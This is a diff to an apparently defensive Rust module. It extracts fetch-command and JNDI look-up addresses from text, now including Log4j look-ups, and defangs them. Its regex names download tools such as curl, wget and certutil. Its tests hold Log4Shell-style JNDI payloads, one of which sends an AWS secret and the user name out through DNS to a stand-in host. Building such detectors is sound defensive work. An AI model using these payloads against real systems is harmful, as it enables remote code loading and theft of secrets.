@@ -14,11 +14,24 @@ use crate::text::Text;
 pub(crate) const MAX_INDICATORS: usize = 16;
 
 /// A program that fetches, and the first address after it; or the address of a JNDI look-up. A `/`
-/// after the program's name makes it a user agent.
-const PATTERN: &str = r#"(?:\b(?:wget|curl|fetch|lynx|aria2c|tftp|ftpget|certutil|bitsadmin|iwr|invoke-webrequest|downloadstring|downloadfile)(?:\.exe)?[^/;|&\n\w][^;|&\n]{0,60}?|\bjndi:)\b((?:(?:https?|tftp|ftp|ldaps?|rmi|dns|iiop|corba|nis|nds):?[/\\]{2,4})[^\s"'<>|;&`(){}$,+]{3,200}|\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?(?:/[^\s"'<>|;&`(){}$,+]{0,200})?)"#;
+/// after the program's name makes it a user agent. What Log4j would put into an address
+/// (<https://logging.apache.org/log4j/2.x/manual/lookups.html>) is part of it, up to four times.
+const PATTERN: &str = r#"(?x)
+    (?: \b (?:wget|curl|fetch|lynx|aria2c|tftp|ftpget|certutil|bitsadmin|iwr|invoke-webrequest|downloadstring|downloadfile)
+        (?:\.exe)? [^/;|&\n\w] [^;|&\n]{0,60}?
+    | \b jndi: )
+    \b
+    (   (?:(?:https?|tftp|ftp|ldaps?|rmi|dns|iiop|corba|nis|nds) :? [/\\]{2,4})
+        (?: [^\s"'<>|;&`(){}$,+]{3,200} | [^\s"'<>|;&`(){}$,+]{0,200} LOOKUP [^\s"'<>|;&`(){}$,+]{0,100} )
+        (?: LOOKUP [^\s"'<>|;&`(){}$,+]{0,100} ){0,3}
+    |   \d{1,3} (?:\.\d{1,3}){3} (?: :\d{1,5} )? (?: /[^\s"'<>|;&`(){}$,+]{0,200} )?
+    )"#;
+/// `${hostName}`, `${env:USER}`: what depends on the victim. Others are undone where text is decoded.
+const LOOKUP: &str = r"\$\{ (?: hostname | (?:ctx|date|docker|env|java|k8s|main|spring|sys|web) : [^{}\s:]{1,60} ) \}";
 
 static ADDRESS: LazyLock<Regex> = LazyLock::new(|| {
-    let built = RegexBuilder::new(PATTERN).unicode(false).build();
+    let pattern = PATTERN.replace("LOOKUP", LOOKUP);
+    let built = RegexBuilder::new(&pattern).unicode(false).build();
     built.expect("a test uses it")
 });
 
@@ -132,6 +145,14 @@ mod tests {
             (
                 b"${jndi:ldap://example.com:1389/a}",
                 "ldap://example[.]com:1389/a",
+            ),
+            (
+                b"${jndi:ldap://${:-350}${:-864}.${hostName}.username.c4ib.oast.example}",
+                "ldap://350864[.]${hostName}[.]username[.]c4ib[.]oast[.]example",
+            ),
+            (
+                b"${jndi:dns://${env:AWS_SECRET}.${sys:user.name}.example.com/${ctx:a}b}",
+                "dns://${env:AWS_SECRET}[.]${sys:user[.]name}[.]example[.]com/${ctx:a}b",
             ),
         ] {
             assert_eq!(addresses(raw), [address], "{}", raw.escape_ascii());
